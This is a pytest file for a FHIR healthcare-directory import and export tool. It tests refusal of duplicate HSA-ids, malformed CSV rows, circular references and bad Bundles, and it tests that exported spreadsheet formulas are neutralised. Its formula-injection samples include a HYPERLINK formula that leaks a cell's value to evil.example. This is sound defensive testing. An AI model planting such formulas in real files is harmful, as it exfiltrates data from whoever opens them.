"""What a directory import refuses, all or nothing: what the FHIR API refuses of a write,
an HSA-id a second active Organization would carry, rows that do not fit the header,
references that lead nowhere or round in a circle; and a CSV export a spreadsheet shows
as text, never runs, that imports to the same values."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi import FastAPI

from gateway.routing import directory, directory_io
from gateway.routing.demo_directory import unit_hsa_id
from gateway.routing.directory_io import CSV_COLUMNS, DirectoryImportError, import_resources
from gateway.store.resources import ResourceStore
from gateway.validation.factory import build_validator

HEADER = ",".join(CSV_COLUMNS)
JONKOPING = "vc-jonkoping-centrum"


def _csv(*rows: str) -> bytes:
    return "\n".join([HEADER, *rows, ""]).encode()


def _org_row(
    res_id: str, hsa_id: str = "", part_of: str = "region-06", active: str = "true"
) -> str:
    name = f"Vårdcentralen {res_id}"
    return f"Organization,{res_id},{active},{name},{hsa_id},0680,06,vardcentral,{part_of},,,,"


def _import(app: FastAPI, data: bytes, kind: str = "csv") -> directory_io.ImportResult:
    resources = directory_io.read_file(data, kind)
    with app.state.session_factory() as session, session.begin():
        return import_resources(
            ResourceStore(session), build_validator(), resources, file_kind=kind
        )


def _refused(app: FastAPI, data: bytes, kind: str = "csv") -> str:
    with pytest.raises(DirectoryImportError) as caught:
        _import(app, data, kind)
    return str(caught.value)


def _stored(app: FastAPI, res_id: str) -> dict[str, Any] | None:
    with app.state.session_factory() as session:
        found = ResourceStore(session).current("Organization", res_id)
    return found.body if found is not None else None


def _bundle(*resources: dict[str, Any]) -> bytes:
    entries = [{"resource": r} for r in resources]
    return json.dumps({"resourceType": "Bundle", "type": "collection", "entry": entries}).encode()


# ----- one active Organization per HSA-id ----------------------------------------------


@pytest.mark.usefixtures("demo")
def test_another_units_hsa_id_is_refused_and_routing_still_finds_the_unit(app: FastAPI) -> None:
    taken = unit_hsa_id(JONKOPING)

    message = _refused(app, _csv(_org_row("vc-clone", taken)))

    assert message.startswith("Organization/vc-clone: the HSA-id (identifier[0])")
    assert f"Organization/{JONKOPING} in the directory" in message
    assert taken not in message
    assert _stored(app, "vc-clone") is None
    with app.state.session_factory() as session:
        unit = directory.unit_by_hsa_id(ResourceStore(session), taken)
    assert unit is not None
    assert unit.id == JONKOPING


@pytest.mark.usefixtures("demo")
def test_two_active_entries_of_the_file_may_not_share_an_hsa_id(app: FastAPI) -> None:
    new = "SE2321000057-VC9001"
    message = _refused(app, _csv(_org_row("vc-one", new), _org_row("vc-two", new)))
    assert message.startswith("Organization/vc-two: the HSA-id (identifier[0]) is also")
    assert "Organization/vc-one in the file" in message
    assert _stored(app, "vc-one") is None


@pytest.mark.usefixtures("demo")
def test_an_inactive_entry_may_share_an_hsa_id_and_a_file_may_hand_one_over(
    app: FastAPI,
) -> None:
    taken = unit_hsa_id(JONKOPING)
    assert _import(app, _csv(_org_row("vc-old", taken, active="false"))).created == 1
    # The file makes the unit inactive and a new entry takes its HSA-id over.
    with app.state.session_factory() as session:
        old = ResourceStore(session).current("Organization", JONKOPING)
        assert old is not None
        assert old.body is not None
        handed_over = {**old.body, "active": False}
    new = {**handed_over, "id": "vc-jonkoping-ny", "active": True}
    result = _import(app, _bundle(new, handed_over), "bundle")
    assert (result.created, result.updated) == (1, 1)
    with app.state.session_factory() as session:
        unit = directory.unit_by_hsa_id(ResourceStore(session), taken)
    assert unit is not None
    assert unit.id == "vc-jonkoping-ny"


@pytest.mark.usefixtures("demo")
def test_an_endpoint_the_fhir_api_would_refuse_is_refused(app: FastAPI) -> None:
    def endpoint(connection_type: str, address: str, status: str = "active") -> bytes:
        fields = f"{connection_type},{address},vc-sodermalm,{status}"
        return _csv(f"Endpoint,ep-x,,Ny,,,,,,{fields}")

    assert "Endpoint.status" in _refused(app, endpoint("fhir-rest", "https://x.example", "nej"))
    assert "(Endpoint.connectionType.code)" in _refused(app, endpoint("bogus", "https://x.ex"))
    assert "(Endpoint.address)" in _refused(app, endpoint("fhir-rest", "not a url"))
    with app.state.session_factory() as session:
        assert ResourceStore(session).current("Endpoint", "ep-x") is None


# ----- CSV rows, duplicates --------------------------------------------------------------


def test_a_row_with_fewer_or_more_fields_than_the_header_is_refused() -> None:
    for row, got in (
        ("Organization,vc-sodermalm,true", 3),
        ("Organization,vc-sodermalm", 2),  # active missing as well
        (_org_row("vc-sodermalm") + ",extra", 14),
    ):
        with pytest.raises(DirectoryImportError) as caught:
            directory_io.read_file(_csv(_org_row("vc-ok"), row), "csv")
        assert str(caught.value) == f"line 3: expected 13 fields as in the header, got {got}"


@pytest.mark.usefixtures("demo")
def test_a_short_row_leaves_the_unit_as_it_was(app: FastAPI) -> None:
    before = _stored(app, "vc-sodermalm")
    with pytest.raises(DirectoryImportError):
        _import(app, _csv("Organization,vc-sodermalm,true"))
    assert _stored(app, "vc-sodermalm") == before


def test_active_must_be_true_false_or_empty() -> None:
    with pytest.raises(DirectoryImportError, match="line 2: active must be true, false or empty"):
        directory_io.read_file(_csv(_org_row("vc-x", active="ja")), "csv")


@pytest.mark.usefixtures("demo")
def test_an_organization_or_endpoint_twice_in_one_file_is_refused(app: FastAPI) -> None:
    twice = _csv(_org_row("vc-twice"), _org_row("vc-twice", part_of="region-01"))
    assert _refused(app, twice) == "Organization/vc-twice: appears twice in the file"
    endpoint = "Endpoint,ep-twice,,E,,,,,,fhir-rest,https://e.example/fhir,vc-sodermalm,active"
    assert _refused(app, _csv(endpoint, endpoint)) == "Endpoint/ep-twice: appears twice in the file"
    assert _stored(app, "vc-twice") is None


# ----- references --------------------------------------------------------------------------


@pytest.mark.usefixtures("demo")
def test_part_of_may_not_lead_round_in_a_circle(app: FastAPI) -> None:
    assert _refused(app, _csv(_org_row("vc-self", part_of="vc-self"))) == (
        "Organization/vc-self: partOf names the Organization itself"
    )
    pair = _csv(_org_row("vc-a", part_of="vc-b"), _org_row("vc-b", part_of="vc-a"))
    assert _refused(app, pair) == (
        "Organization/vc-a: partOf leads round in a circle "
        "(Organization/vc-a -> Organization/vc-b -> Organization/vc-a)"
    )
    # The same circle in two imports: the second would close it through the directory.
    _import(app, _csv(_org_row("vc-a"), _org_row("vc-b", part_of="vc-a")))
    message = _refused(app, _csv(_org_row("vc-a", part_of="vc-b")))
    assert message == (
        "Organization/vc-a: partOf leads round in a circle "
        "(Organization/vc-a -> Organization/vc-b -> Organization/vc-a)"
    )
    assert (_stored(app, "vc-a") or {})["partOf"] == {"reference": "Organization/region-06"}


@pytest.mark.usefixtures("demo")
def test_references_name_an_organization_in_the_file_or_the_directory(app: FastAPI) -> None:
    assert _refused(app, _csv(_org_row("vc-x", part_of="no-such-org"))) == (
        "Organization/vc-x: partOf names Organization/no-such-org, which is neither in the "
        "file nor in the directory"
    )
    endpoint = "Endpoint,ep-x,,E,,,,,,fhir-rest,https://e.example/fhir,no-such-org,active"
    assert "Endpoint/ep-x: managingOrganization names Organization/no-such-org" in _refused(
        app, _csv(endpoint)
    )
    empty_id = {
        "resourceType": "Organization",
        "id": "vc-x",
        "partOf": {"reference": "Organization/"},
    }
    elsewhere = {**empty_id, "partOf": {"reference": "https://x.example/fhir/Organization/a"}}
    for body in (empty_id, elsewhere):
        assert _refused(app, _bundle(body), "bundle").startswith(
            "Organization/vc-x: partOf must be a reference Organization/<id>"
        )
    # Parent and child in one file, in any order, and a parent already in the directory.
    result = _import(app, _csv(_org_row("vc-child", part_of="vc-parent"), _org_row("vc-parent")))
    assert result.created == 2


# ----- Bundle files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b'{"resourceType":"Bundle","entry":5}', "the Bundle's entry must be a list"),
        (
            b'{"resourceType":"Bundle","entry":[{"resource":'
            b'{"resourceType":"Organization","id":"x","active":true,"active":false}}]}',
            "a JSON object has the same key twice (at Bundle.entry[0].resource.active)",
        ),
        (b"[" * 100_000 + b"]" * 100_000, "JSON nesting deeper than 64 levels"),
        (b"", "the file is empty"),
        (
            _bundle({"resourceType": "Organization", "id": "x" * 65}),
            "entry 0: not a valid id",
        ),
    ],
)
def test_a_bundle_file_is_read_as_the_fhir_api_reads_a_body(data: bytes, expected: str) -> None:
    with pytest.raises(DirectoryImportError) as caught:
        directory_io.read_file(data, "bundle")
    assert expected in str(caught.value)


@pytest.mark.usefixtures("demo")
def test_a_malformed_part_of_is_an_error_not_a_crash(app: FastAPI) -> None:
    for part_of in ("x", {"reference": 5}):
        body = {"resourceType": "Organization", "id": "vc-x", "partOf": part_of}
        assert _refused(app, _bundle(body), "bundle").startswith("Organization/vc-x: ")


def test_a_cell_beyond_the_csv_field_limit_is_an_error() -> None:
    row = _org_row("vc-x").replace("Vårdcentralen vc-x", "A" * 140_000)
    with pytest.raises(DirectoryImportError, match=r"^line 2: not valid CSV \(field larger"):
        directory_io.read_file(_csv(row), "csv")


# ----- CSV export and spreadsheets ---------------------------------------------------------

FORMULA_NAMES = (
    '=HYPERLINK("https://evil.example/?leak="&B2,"Öppna")',
    "+46 8 000 00 00",
    "-1+1",
    "@SUM(1,1)",
    "\tTabb",
    "\rVagnretur",
    "'=redan citerad",
    "''+två citat",
)
PLAIN_NAMES = ("'citat först", "Vårdcentralen = bra", "Ö'")


def test_an_exported_formula_is_text_and_imports_as_it_was(app: FastAPI) -> None:
    names = {f"vc-{i}": name for i, name in enumerate(FORMULA_NAMES + PLAIN_NAMES)}
    with app.state.session_factory() as session, session.begin():
        store = ResourceStore(session)
        for res_id, name in names.items():
            body = {"resourceType": "Organization", "active": True, "name": name}
            store.create(body, res_id=res_id)
    with app.state.session_factory() as session:
        out = io.StringIO()
        directory_io.export_csv(directory_io.directory_resources(ResourceStore(session)), out)
    exported = out.getvalue()
    cells = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(exported, newline=""))}
    for res_id, name in names.items():
        expected = "'" + name if name in FORMULA_NAMES else name
        assert cells[res_id] == expected, name
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]
    # Read back, the names are what they were, and importing changes nothing.
    read = {r["id"]: r["name"] for r in directory_io.read_file(exported.encode(), "csv")}
    assert read == names
    result = _import(app, exported.encode())
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(names))
